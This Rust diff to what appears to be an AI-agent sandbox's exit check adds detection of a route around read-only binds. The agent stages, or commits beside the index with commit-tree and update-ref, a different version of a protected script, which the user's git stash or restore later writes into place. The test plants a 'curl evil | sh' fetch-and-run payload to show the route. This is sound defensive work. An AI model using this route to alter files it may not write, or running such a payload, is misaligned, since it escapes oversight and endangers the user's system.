@@ -39,6 +39,10 @@ struct Recorded {
     entries: HashSet<u64>,
     /// The replace refs `packed-refs` held.
     packed_replacements: HashSet<String>,
+    /// The commit `HEAD` named.
+    head: Option<Vec<u8>>,
+    /// The files and directories of the worktree the agent could not write (read-only binds).
+    protected: Vec<PathBuf>,
 }
 
 /// The replace refs (`refs/replace/…`) a git directory's `packed-refs` holds.
@@ -61,14 +65,25 @@ pub struct Hidden {
     pub unchecked: Vec<PathBuf>,
     /// `packed-refs` files that hold replace refs they did not hold at launch.
     pub replacements: Vec<PathBuf>,
+    /// Files the agent could not write whose index entry, or `HEAD`'s version, is now another
+    /// content than theirs (the thirty-fifth re-attack's G13): the user's `git restore`, `stash`,
+    /// `checkout` or `reset --hard` would write the agent's version into them.
+    pub staged: Vec<PathBuf>,
 }
 
 impl IndexSnapshot {
-    /// The entries of each `(git directory, worktree)`'s indexes now.
-    pub fn take(worktrees: &[(PathBuf, PathBuf)]) -> IndexSnapshot {
+    /// The entries of each `(git directory, worktree)`'s indexes now, its `HEAD`, and which of
+    /// `protected` (the session's read-only binds) lie in its worktree.
+    pub fn take(worktrees: &[(PathBuf, PathBuf)], protected: &[PathBuf]) -> IndexSnapshot {
         let mut snapshot = IndexSnapshot::default();
         let mut budget = git::INDEX_BYTES_PER_LOOK;
         for (git_dir, worktree) in worktrees {
+            // Only those below the worktree (not the worktree itself, nor its git directory).
+            let protected = protected
+                .iter()
+                .filter(|path| path.starts_with(worktree) && *path != worktree && !path.starts_with(git_dir))
+                .cloned()
+                .collect();
             let mut entries = HashSet::new();
             git::read_indexes(git_dir, &mut budget, |entry| {
                 entries.insert(snapshot.key(entry));
@@ -79,6 +94,8 @@ impl IndexSnapshot {
                 worktree: worktree.clone(),
                 entries,
                 packed_replacements,
+                head: objects::head(git_dir),
+                protected,
             });
         }
         snapshot
@@ -102,9 +119,15 @@ impl IndexSnapshot {
             let hash_len = git::hash_len(&recorded.git_dir);
             let mut changed = Vec::new();
             let mut unnamed = false;
+            let protected = |path: &Path| recorded.protected.iter().any(|bound| path.starts_with(bound));
+            let mut staged = Vec::new();
             let unread = git::read_indexes(&recorded.git_dir, &mut budget, |entry| {
                 if recorded.entries.contains(&self.key(entry)) {
                     return;
+                }
+                let path = recorded.worktree.join(std::ffi::OsStr::from_bytes(entry.name));
+                if !entry.name.is_empty() && protected(&path) {
+                    staged.push((path, entry.object_name().to_vec()));
                 }
                 // A split index's entry that replaces one of the shared index's has no name of its
                 // own (git takes it by position from the shared index): which file it claims is
@@ -130,10 +153,60 @@ impl IndexSnapshot {
                     None => hidden.unchecked.push(path),
                 }
             }
+            // A commit made beside the index (`commit-tree`, `update-ref`) leaves the entries as
+            // they were: what `HEAD` holds of each protected file is looked up in its tree.
+            let head = objects::head(&recorded.git_dir);
+            if head.is_some() && head != recorded.head {
+                let objects = git::common_dir(&recorded.git_dir).unwrap_or_else(|| recorded.git_dir.clone());
+                let objects = objects::Loose::new(objects.join("objects"), hash_len);
+                for file in recorded.protected.iter().filter(|file| file.is_file()) {
+                    let Ok(relative) = file.strip_prefix(&recorded.worktree) else { continue };
+                    match objects.blob_at(head.as_deref().unwrap_or_default(), relative) {
+                        Ok(Some(object_name)) => staged.push((file.clone(), object_name)),
+                        Ok(None) => {}
+                        Err(()) => hidden.unchecked.push(file.clone()),
+                    }
+                }
+            }
+            for (path, object_name) in staged {
+                match holds_another_version(&path, &object_name, hash_len, &mut bytes_left, &mut files_left) {
+                    Some(true) => hidden.staged.push(path),
+                    Some(false) => {}
+                    None => hidden.unchecked.push(path),
+                }
+            }
         }
         hidden.files.dedup();
+        hidden.staged.sort();
+        hidden.staged.dedup();
         hidden
     }
+}
+
+/// Whether `object_name` (an index entry's, or `HEAD`'s) is not a version git could have stored
+/// of the file at `path` as it is: `None` when it could not be told (the budgets spent, the
+/// file unreadable). A file gone is not (the agent could not remove it; the user did).
+fn holds_another_version(
+    path: &Path,
+    object_name: &[u8],
+    hash_len: usize,
+    bytes_left: &mut u64,
+    files_left: &mut usize,
+) -> Option<bool> {
+    let Ok(metadata) = std::fs::symlink_metadata(path) else { return Some(false) };
+    if *files_left == 0 || metadata.len() > *bytes_left {
+        return None;
+    }
+    *files_left -= 1;
+    *bytes_left -= metadata.len();
+    let content = if metadata.is_symlink() {
+        std::fs::read_link(path).ok()?.into_os_string().into_vec()
+    } else if metadata.is_file() {
+        git::read_capped(path, false, metadata.len()).ok()?
+    } else {
+        return Some(false);
+    };
+    Some(!stored_forms(&content).any(|form| blob_name(&form, hash_len) == object_name))
 }
 
 /// What a changed entry claims of its file, when git would take the claim without looking.
@@ -237,6 +310,124 @@ fn blob_name(content: &[u8], hash_len: usize) -> Vec<u8> {
     context.finish().as_ref().to_vec()
 }
 
+/// What `HEAD` names and what its tree holds at a path, read from the loose objects only (a
+/// packed object is not read here: the caller names the file as not checked). Read without
+/// running git, as the rest of the exit's look.
+mod objects {
+    use std::io::Read as _;
+    use std::path::{Path, PathBuf};
+
+    use super::git;
+
+    /// Objects larger than this (inflated) are not read.
+    const MAX_OBJECT_BYTES: u64 = 64 * 1024 * 1024;
+    /// Directories deeper than this are not followed.
+    const MAX_DEPTH: usize = 256;
+
+    /// The object name (raw bytes) of the commit `git_dir`'s `HEAD` names, through a branch's
+    /// loose ref or `packed-refs`; `None` for an unborn branch or what cannot be read.
+    pub fn head(git_dir: &Path) -> Option<Vec<u8>> {
+        let common = git::common_dir(git_dir).unwrap_or_else(|| git_dir.to_path_buf());
+        let mut text = git::read_limited(&git_dir.join("HEAD"), true).ok()?;
+        // A symbolic ref may name another (at most a few hops, as git allows).
+        for _ in 0..5 {
+            let line = String::from_utf8_lossy(&text).trim_end().to_string();
+            let Some(name) = line.strip_prefix("ref: ") else { return hex::decode(line).ok() };
+            let name = name.trim();
+            if name.contains("..") {
+                return None;
+            }
+            let dir = if name.starts_with("refs/") { &common } else { git_dir };
+            text = match git::read_limited(&dir.join(name), true) {
+                Ok(text) => text,
+                Err(_) => {
+                    let packed = git::read_limited(&common.join("packed-refs"), true).ok()?;
+                    let packed = String::from_utf8_lossy(&packed).into_owned();
+                    let found = packed.lines().find_map(|line| {
+                        let (id, named) = line.split_once(' ')?;
+                        (named == name).then(|| id.to_string())
+                    })?;
+                    return hex::decode(found).ok();
+                }
+            };
+        }
+        None
+    }
+
+    /// A repository's loose objects.
+    pub struct Loose {
+        dir: PathBuf,
+        hash_len: usize,
+    }
+
+    impl Loose {
+        pub fn new(dir: PathBuf, hash_len: usize) -> Loose {
+            Loose { dir, hash_len }
+        }
+
+        /// The object name of the file at `relative` in `commit`'s tree: `Ok(None)` when the
+        /// tree holds none there, `Err` when an object on the way could not be read (packed,
+        /// missing, or not what git writes).
+        pub fn blob_at(&self, commit: &[u8], relative: &Path) -> Result<Option<Vec<u8>>, ()> {
+            let body = self.read(commit, b"commit")?;
+            let tree = body.strip_prefix(b"tree ").and_then(|rest| rest.get(..2 * self.hash_len)).ok_or(())?;
+            let mut tree = hex::decode(tree).map_err(|_| ())?;
+            let parts: Vec<&[u8]> = relative.iter().map(|part| part.as_encoded_bytes()).collect();
+            if parts.is_empty() || parts.len() > MAX_DEPTH {
+                return Ok(None);
+            }
+            for (n, part) in parts.iter().enumerate() {
+                let body = self.read(&tree, b"tree")?;
+                let Some((mode, object)) = self.entry(&body, part)? else { return Ok(None) };
+                let last = n + 1 == parts.len();
+                match (last, mode.as_slice()) {
+                    (false, b"40000") => tree = object,
+                    (true, b"100644" | b"100755" | b"120000" | b"100664") => return Ok(Some(object)),
+                    _ => return Ok(None),
+                }
+            }
+            Ok(None)
+        }
+
+        /// The mode and object name of `name`'s entry in a tree's body.
+        #[allow(clippy::type_complexity)]
+        fn entry(&self, mut body: &[u8], name: &[u8]) -> Result<Option<(Vec<u8>, Vec<u8>)>, ()> {
+            while !body.is_empty() {
+                let space = body.iter().position(|&byte| byte == b' ').ok_or(())?;
+                let end = body.iter().position(|&byte| byte == 0).ok_or(())?;
+                let id = body.get(end + 1..end + 1 + self.hash_len).ok_or(())?;
+                if end < space {
+                    return Err(());
+                }
+                if &body[space + 1..end] == name {
+                    return Ok(Some((body[..space].to_vec(), id.to_vec())));
+                }
+                body = &body[end + 1 + self.hash_len..];
+            }
+            Ok(None)
+        }
+
+        /// The body of the loose object `id`, which must be of `kind`.
+        fn read(&self, id: &[u8], kind: &[u8]) -> Result<Vec<u8>, ()> {
+            let name = hex::encode(id);
+            let path = self.dir.join(&name[..2]).join(&name[2..]);
+            let compressed = git::read_capped(&path, false, MAX_OBJECT_BYTES).map_err(|_| ())?;
+            let mut object = Vec::new();
+            flate2::read::ZlibDecoder::new(compressed.as_slice())
+                .take(MAX_OBJECT_BYTES)
+                .read_to_end(&mut object)
+                .map_err(|_| ())?;
+            let nul = object.iter().position(|&byte| byte == 0).ok_or(())?;
+            let header = &object[..nul];
+            let (found, _) = header.split_at(header.iter().position(|&byte| byte == b' ').ok_or(())?);
+            if found != kind {
+                return Err(());
+            }
+            Ok(object.split_off(nul + 1))
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -285,7 +476,7 @@ mod tests {
     #[test]
     fn changes_hidden_from_git_status_are_named() {
         let Some((_temp, repo)) = repository() else { return };
-        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())]);
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
         assert_eq!(snapshot.hidden(), Hidden::default(), "nothing changed");
 
         // In the open: a change `git status` shows, one added, one committed.
@@ -327,6 +518,73 @@ mod tests {
         assert_eq!(snapshot.hidden().replacements, vec![repo.join(".git/packed-refs")]);
     }
 
+    /// `git` in `repo` with `env`, its output; `None` when it failed.
+    fn git_out(repo: &Path, args: &[&str], env: &[(&str, &Path)]) -> Option<String> {
+        let output = std::process::Command::new("git")
+            .args(args)
+            .current_dir(repo)
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .envs(env.iter().copied())
+            .output()
+            .ok()
+            .filter(|output| output.status.success())?;
+        Some(String::from_utf8(output.stdout).unwrap().trim().to_string())
+    }
+
+    /// The thirty-fifth re-attack's G13: the index and the objects are the agent's to write, so it
+    /// stages, or commits beside the index, a version of a file it could not write (`lint.sh`, a
+    /// hook's script, read-only in the session); the user's `git restore` or `git stash` then
+    /// writes it into the file. Named either way; a version that is the file's is not, nor a
+    /// change to a file the agent could write; a `HEAD` whose objects were packed is unchecked.
+    #[test]
+    fn another_version_of_a_protected_file_staged_or_committed_is_named() {
+        let Some((_temp, repo)) = repository() else { return };
+        let protected = [repo.join("lint.sh")];
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &protected);
+        let original = git_out(&repo, &["rev-parse", ":lint.sh"], &[]).unwrap();
+        // In the open: the file staged as it is, a file the agent could write changed and staged.
+        assert!(git(&repo, &["add", "lint.sh"]));
+        std::fs::write(repo.join("README"), "changed\n").unwrap();
+        assert!(git(&repo, &["add", "README"]));
+        assert_eq!(snapshot.hidden(), Hidden::default());
+
+        // Staged: written as an object and put in the index, the file itself untouched.
+        let evil = repo.join("evil");
+        std::fs::write(&evil, "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        let planted = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
+        std::fs::remove_file(&evil).unwrap();
+        assert!(git(&repo, &["update-index", "--cacheinfo", &format!("100755,{planted},lint.sh")]));
+        assert_eq!(snapshot.hidden().staged, vec![repo.join("lint.sh")]);
+
+        // Committed beside the index: the entry put back, HEAD moved to a tree holding it.
+        assert!(git(&repo, &["update-index", "--cacheinfo", &format!("100644,{original},lint.sh")]));
+        assert_eq!(snapshot.hidden().staged, Vec::<PathBuf>::new(), "the entry is the file's again");
+        let scratch = repo.join(".git/scratch-index");
+        let env = [("GIT_INDEX_FILE", scratch.as_path())];
+        assert!(git_out(&repo, &["read-tree", "HEAD"], &env).is_some());
+        assert!(git_out(&repo, &["update-index", "--cacheinfo", &format!("100755,{planted},lint.sh")], &env).is_some());
+        let tree = git_out(&repo, &["write-tree"], &env).unwrap();
+        let commit = git_out(
+            &repo,
+            &["-c", "user.name=U", "-c", "user.email=u@x", "commit-tree", &tree, "-p", "HEAD", "-m", "x"],
+            &[],
+        )
+        .unwrap();
+        assert!(git(&repo, &["update-ref", "HEAD", &commit]));
+        assert_eq!(snapshot.hidden().staged, vec![repo.join("lint.sh")]);
+        // What the user's git would do with it.
+        assert!(git(&repo, &["stash"]));
+        assert!(std::fs::read_to_string(repo.join("lint.sh")).unwrap().contains("curl evil"));
+        std::fs::write(repo.join("lint.sh"), "#!/bin/sh\n").unwrap();
+
+        // Packed, HEAD's version cannot be read here: unchecked, not passed over.
+        assert!(git(&repo, &["repack", "-a", "-d", "-q"]));
+        assert!(git(&repo, &["prune-packed"]));
+        let hidden = snapshot.hidden();
+        assert!(hidden.unchecked.contains(&repo.join("lint.sh")), "{hidden:?}");
+    }
+
     /// The fifteenth re-attack: a sparse directory entry over `src/` (git then takes every file
     /// below for its tree's), and a split index whose replacing entries have no names. The first
     /// is named; the second is said to be unchecked.
@@ -340,7 +598,7 @@ mod tests {
         let committed = git(&repo, &["add", "-A"])
             && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "more"]);
         assert!(committed);
-        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())]);
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
         if !git(&repo, &["sparse-checkout", "set", "--cone", "--sparse-index", "keep"]) {
             return; // a git without sparse indexes
         }
@@ -353,7 +611,7 @@ mod tests {
         assert_eq!(snapshot.hidden().files, vec![repo.join("src/")]);
 
         let Some((_temp, repo)) = repository() else { return };
-        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())]);
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
         assert!(git(&repo, &["update-index", "--split-index"]));
         std::fs::write(repo.join("Makefile"), "check:\n\tfalse\n").unwrap();
         assert!(git(&repo, &["add", "Makefile"]));
